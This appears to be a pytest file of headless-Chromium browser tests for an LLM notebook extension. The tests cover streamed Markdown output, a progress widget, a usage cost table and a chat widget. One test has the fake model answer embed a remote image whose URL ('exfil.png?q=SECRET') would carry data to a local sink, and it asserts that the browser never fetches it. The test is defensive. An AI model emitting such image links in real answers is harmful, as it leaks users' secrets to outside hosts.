"""A real JupyterLab in headless Chromium: a %%llm cell's answer streams in, renders as
Markdown, and lands in that cell's output area, not in its neighbours'.

The answer comes from the local fake OpenAI server (tests/support/server.py) with a delay per
word, registered in the notebook with ``%llm register``, so the test can watch the text grow.
Needs Debian's chromium (``apt-get install chromium``) and ``pip install playwright
jupyterlab`` (never ``playwright install``); skips with the reason when either is missing.
A screenshot is saved to ``artifacts/jupyterlab_llm.png``.
"""

from __future__ import annotations

import contextlib
import itertools
import json
import os
import shutil
import socket
import subprocess
import sys
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.support.server import FakeOpenAIServer

pytestmark = pytest.mark.browser

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
ARTIFACTS = Path(__file__).resolve().parents[2] / "artifacts"
TOKEN = "llm-magics-browser-test"
ANSWER = (
    "## Streaming works\n\nThe answer arrives **word by word** and renders as Markdown:\n\n"
    "- first item of the list\n- second item of the list\n- third item of the list\n\n"
    "Done streaming now."
)


def _requirements() -> str | None:
    if not os.path.exists(CHROMIUM):
        return "chromium is not installed (apt-get install -y chromium)"
    try:
        import jupyterlab  # noqa: F401
        import playwright.sync_api  # noqa: F401
    except ImportError as exc:
        return f"{exc.name} is not installed (pip install playwright jupyterlab)"
    return None


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port: int = s.getsockname()[1]
        return port


def _write_notebook(path: Path, sources: list[str]) -> None:
    """An output-free notebook of code cells on the python3 kernel."""
    import nbformat

    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell(source) for source in sources]
    nb.metadata["kernelspec"] = {
        "name": "python3",
        "display_name": "Python 3",
        "language": "python",
    }
    nbformat.write(nb, str(path))


def _notebook(path: Path) -> None:
    _write_notebook(
        path,
        [
            "import os\n%load_ext llm_magics\nurl = os.environ['FAKE_LLM_URL']\n"
            "%llm register fake $url --model m",
            "print('cell above')",
            "%%llm fake --no-cache\nExplain streaming in Markdown.",
            "print('cell below')",
        ],
    )


PICTURE_ANSWER = (
    "Here it is: ![chart]({sink}/exfil.png?q=SECRET) and a local dot "
    "![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGP4"
    "z8DwHwAFAAH/iZk9HQAAAABJRU5ErkJggg==)"
)


def _answer(body: dict[str, Any]) -> str:
    last = body["messages"][-1]["content"]
    text = last if isinstance(last, str) else " ".join(p.get("text", "") for p in last)
    if "picture" in text:
        return PICTURE_ANSWER.format(sink=os.environ["LLM_MAGICS_TEST_SINK"])
    return ANSWER


def _safety_notebook(path: Path) -> None:
    _write_notebook(
        path,
        [
            "import os\nimport llm_magics as lm\n%load_ext llm_magics\n"
            "url = os.environ['FAKE_LLM_URL']\n%llm register fake $url --model m\n"
            "lm.set_price('fake:m', input=0.15, output=0.6)",
            "%%llm fake --no-cache\nShow me a picture",
            "%%llm fake --no-stream\nA question asked twice",
            "%%llm fake --no-stream\nA question asked twice",
            "%llm usage",
        ],
    )


class _Sink:
    """An HTTP server that records every request: a remote image the browser fetches."""

    def __init__(self) -> None:
        import http.server
        import threading

        self.paths: list[str] = []
        sink = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                sink.paths.append(self.path)
                self.send_response(404)
                self.end_headers()

            def log_message(self, *args: Any) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def _frame_notebook(path: Path) -> None:
    _write_notebook(
        path,
        [
            "import os\nimport pandas as pd\nimport llm_magics as lm\n"
            "lm.register('fake', os.environ['FAKE_LLM_URL'], default_model='m')",
            "df = pd.DataFrame({'review': [f'review number {i}' for i in range(12)]})\n"
            "out = df.llm.map('Classify: {review}', model='fake:m', cache=False, concurrency=4)\n"
            "print('rows', len(out), 'errors', int(out['llm_error'].notna().sum()))",
        ],
    )


def _chat_notebook(path: Path) -> None:
    _write_notebook(path, ["%load_ext llm_magics", "%llm chat demo --model local"])


@pytest.fixture
def lab(tmp_path: Path) -> Iterator[dict[str, Any]]:
    missing = _requirements()
    if missing:
        pytest.skip(missing)
    root = tmp_path / "root"
    root.mkdir()
    _notebook(root / "stream.ipynb")
    _frame_notebook(root / "frame.ipynb")
    _safety_notebook(root / "safety.ipynb")
    _chat_notebook(root / "chat.ipynb")
    sink = _Sink()
    env = dict(os.environ)
    env["LLM_MAGICS_TEST_SINK"] = sink.url
    os.environ["LLM_MAGICS_TEST_SINK"] = sink.url  # for the fake server's answers
    for name in (
        "JUPYTER_CONFIG_DIR",
        "JUPYTER_RUNTIME_DIR",
        "JUPYTERLAB_SETTINGS_DIR",
        "JUPYTERLAB_WORKSPACES_DIR",
        "IPYTHONDIR",
    ):
        (tmp_path / name.lower()).mkdir()
        env[name] = str(tmp_path / name.lower())
    notify = tmp_path / "jupyterlab_settings_dir" / "@jupyterlab" / "apputils-extension"
    notify.mkdir(parents=True)
    (notify / "notification.jupyterlab-settings").write_text(
        json.dumps({"fetchNews": "false", "checkForUpdates": False})
    )
    # Start the notebook's kernel without asking (else a "Select Kernel" dialog waits).
    docmanager = tmp_path / "jupyterlab_settings_dir" / "@jupyterlab" / "docmanager-extension"
    docmanager.mkdir(parents=True)
    (docmanager / "plugin.jupyterlab-settings").write_text(
        json.dumps({"autoStartDefaultKernel": True})
    )
    server = FakeOpenAIServer(answer=_answer, chunk_delay=0.12, stream_chunk_words=1)
    server.start()
    env["FAKE_LLM_URL"] = server.base_url
    port = _free_port()
    cmd = [
        sys.executable,
        "-m",
        "jupyterlab",
        "--no-browser",
        "--ip=127.0.0.1",
        f"--port={port}",
        f"--IdentityProvider.token={TOKEN}",
        f"--ServerApp.root_dir={root}",
        "--LabApp.expose_app_in_browser=True",
        "--ServerApp.port_retries=0",
    ]
    if hasattr(os, "geteuid") and os.geteuid() == 0:
        cmd.append("--allow-root")
    log = open(tmp_path / "jupyterlab.log", "wb")  # noqa: SIM115 - closed in the finally
    process = subprocess.Popen(cmd, env=env, stdout=log, stderr=subprocess.STDOUT)
    base = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 60
        while True:
            try:
                with urllib.request.urlopen(f"{base}/api/status?token={TOKEN}", timeout=2):
                    break
            except OSError:
                if process.poll() is not None or time.monotonic() > deadline:
                    raise RuntimeError(
                        "JupyterLab did not start:\n" + (tmp_path / "jupyterlab.log").read_text()
                    ) from None
                time.sleep(0.25)
        yield {"base": base, "server": server, "sink": sink}
    finally:
        process.terminate()
        try:
            process.wait(15)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait(5)
        log.close()
        server.stop()
        sink.close()
        os.environ.pop("LLM_MAGICS_TEST_SINK", None)


def _output_text(page: Any, index: int) -> str:
    text: str = page.evaluate(
        """(i) => {
            const cell = document.querySelectorAll('.jp-Notebook .jp-Cell')[i];
            const out = cell && cell.querySelector('.jp-OutputArea');
            return out ? out.innerText : '';
        }""",
        index,
    )
    return text


CHROMIUM_ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-dev-shm-usage",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
    "--disable-quic",
]


@contextlib.contextmanager
def _browser_page(screenshot: str, height: int = 900) -> Iterator[Any]:
    """A page of headless Chromium; a full-page screenshot is kept whatever happens."""
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
        page = None
        try:
            page = browser.new_page(viewport={"width": 1280, "height": height})
            yield page
        finally:
            if page is not None:
                ARTIFACTS.mkdir(exist_ok=True)
                page.screenshot(path=str(ARTIFACTS / screenshot), full_page=True)
            browser.close()


def _open_and_run_all(page: Any, base: str, notebook: str) -> None:
    page.goto(f"{base}/lab/tree/{notebook}?reset&token={TOKEN}")
    page.wait_for_selector(".jp-Notebook .jp-Cell", timeout=60_000)
    dialog = page.locator(".jp-Dialog button.jp-mod-accept")
    with contextlib.suppress(Exception):  # only when the kernel setting is not honoured
        dialog.click(timeout=3_000)
    page.wait_for_selector(".jp-Notebook-ExecutionIndicator[data-status='idle']", timeout=60_000)
    # Not awaited: the command's promise settles only when every cell has run.
    page.evaluate("() => { window.jupyterapp.commands.execute('runmenu:run-all'); }")


def test_a_streamed_answer_renders_as_markdown_in_its_own_cell(lab: dict[str, Any]) -> None:
    with _browser_page("jupyterlab_llm.png") as page:
        _open_and_run_all(page, lab["base"], "stream.ipynb")

        # Watch the %%llm cell's output while it grows.
        samples: list[str] = []
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            text = _output_text(page, 2)
            if text and (not samples or samples[-1] != text):
                samples.append(text)
            if "Done streaming now." in text:
                break
            time.sleep(0.05)
        page.wait_for_function(
            "() => document.querySelectorAll('.jp-Notebook .jp-Cell')[3]"
            ".innerText.includes('cell below')",
            timeout=30_000,
        )
        partial = [
            s
            for s in samples
            if "Explain" not in s and "Done streaming" not in s and "Streaming works" in s
        ]
        print(f"the %%llm output was sampled at {len(partial)} growing lengths")
        assert len(partial) >= 2, f"the answer should be seen growing, got {samples!r}"
        assert all(len(a) < len(b) for a, b in itertools.pairwise(partial)), partial
        final = _output_text(page, 2)
        assert "Done streaming now." in final
        rendered = page.evaluate(
            """() => {
                const cell = document.querySelectorAll('.jp-Notebook .jp-Cell')[2];
                const md = cell.querySelector('.jp-OutputArea .jp-RenderedMarkdown');
                return md ? {h2: md.querySelector('h2')?.innerText,
                             strong: md.querySelector('strong')?.innerText,
                             items: md.querySelectorAll('li').length} : null;
            }"""
        )
        assert rendered == {"h2": "Streaming works", "strong": "word by word", "items": 3}
        assert "fake:m" in final, "the usage line sits under the answer"
        above, below = _output_text(page, 1), _output_text(page, 3)
        assert above.strip() == "cell above" and below.strip() == "cell below"
        assert "Streaming works" not in _output_text(page, 0)


def test_the_dataframe_progress_widget_renders_and_reports_every_row(lab: dict[str, Any]) -> None:
    with _browser_page("jupyterlab_progress.png") as page:
        _open_and_run_all(page, lab["base"], "frame.ipynb")
        page.wait_for_function(
            "() => document.querySelectorAll('.jp-Notebook .jp-Cell')[1]"
            ".innerText.includes('rows 12 errors 0')",
            timeout=90_000,
        )
        widget = page.evaluate(
            """() => {
                const cell = document.querySelectorAll('.jp-Notebook .jp-Cell')[1];
                const box = cell.querySelector('.llm-magics-progress');
                return box ? {text: box.innerText,
                              bar: !!box.querySelector('.llm-magics-progress-bar'),
                              failed: cell.innerText.includes('Error displaying widget')}
                           : null;
            }"""
        )
        assert widget is not None, "no progress widget in the df.llm.map cell"
        assert widget["bar"] and not widget["failed"]
        assert "12/12 rows" in widget["text"] and "0 errors" in widget["text"], widget


def test_tables_read_as_money_and_a_remote_image_in_an_answer_is_never_fetched(
    lab: dict[str, Any],
) -> None:
    # Cases 4 and 17 of the hardening issue, as a person meets them in JupyterLab.
    with _browser_page("jupyterlab_safety.png", 1400) as page:
        _open_and_run_all(page, lab["base"], "safety.ipynb")
        page.wait_for_function(
            "() => document.querySelectorAll('.jp-Notebook .jp-Cell')[4]"
            ".querySelector('.jp-OutputArea table')",
            timeout=90_000,
        )
        answer = page.evaluate(
            """() => {
                const cell = document.querySelectorAll('.jp-Notebook .jp-Cell')[1];
                const md = cell.querySelector('.jp-RenderedMarkdown');
                return {
                    images: [...md.querySelectorAll('img')].map(i => i.getAttribute('src')),
                    links: [...md.querySelectorAll('a')].map(a => a.innerText),
                };
            }"""
        )
        assert all(src.startswith("data:") for src in answer["images"]), answer
        assert len(answer["images"]) == 1, "the local data: image still shows"
        assert any("chart" in text for text in answer["links"]), answer
        table = page.evaluate(
            """() => {
                const cell = document.querySelectorAll('.jp-Notebook .jp-Cell')[4];
                const t = cell.querySelector('.jp-OutputArea table');
                return {
                    head: [...t.querySelectorAll('th')].map(c => c.innerText.trim()),
                    rows: [...t.querySelectorAll('tbody tr')].map(
                        r => [...r.querySelectorAll('td')].map(c => c.innerText.trim())),
                    math: !!cell.querySelector('mjx-container, .MathJax, .katex'),
                };
            }"""
        )
        assert table["head"] == [
            "model",
            "calls",
            "cache hits",
            "input tok",
            "cached tok",
            "output tok",
            "cost",
            "saved: response cache",
            "saved: prompt cache",
        ]
        assert not table["math"], "a $ in the table was rendered as a formula"
        for row in table["rows"]:
            assert len(row) == len(table["head"]), row
            assert all(row[i].startswith("$") for i in (6, 7, 8)), row
        assert any(row[7] != "$0" for row in table["rows"]), "the cached call saved money"
        time.sleep(1.0)  # give a fetch the browser might have started time to land
        assert lab["sink"].paths == [], "the browser fetched the remote image"


def test_the_chat_widget_answers_a_question_typed_and_sent_with_enter(
    lab: dict[str, Any],
) -> None:
    with _browser_page("jupyterlab_chat.png") as page:
        _open_and_run_all(page, lab["base"], "chat.ipynb")
        box = page.locator(".llm-magics-chat-input input")
        box.wait_for(timeout=60_000)
        box.fill("What is the capital of France?")
        box.press("Enter")
        page.wait_for_function(
            """() => {
                const usage = document.querySelectorAll('.llm-magics-chat-usage');
                return usage.length && usage[usage.length - 1].innerText.includes('local');
            }""",
            timeout=120_000,
        )
        chat = page.evaluate(
            """() => {
                const box = document.querySelector('.llm-magics-chat');
                const all = (c) => [...box.querySelectorAll(c)].map(e => e.innerText.trim());
                return {user: all('.llm-magics-chat-user'), answer: all('.llm-magics-chat-answer'),
                        usage: all('.llm-magics-chat-usage'),
                        input: box.querySelector('.llm-magics-chat-input input').value,
                        failed: document.body.innerText.includes('Error displaying widget')};
            }"""
        )
        assert not chat["failed"], chat
        assert chat["user"] == ["What is the capital of France?"], chat
        assert len(chat["answer"]) == 1 and len(chat["answer"][0]) > 3, chat
        assert "tokens" in chat["usage"][0] and chat["input"] == "", chat
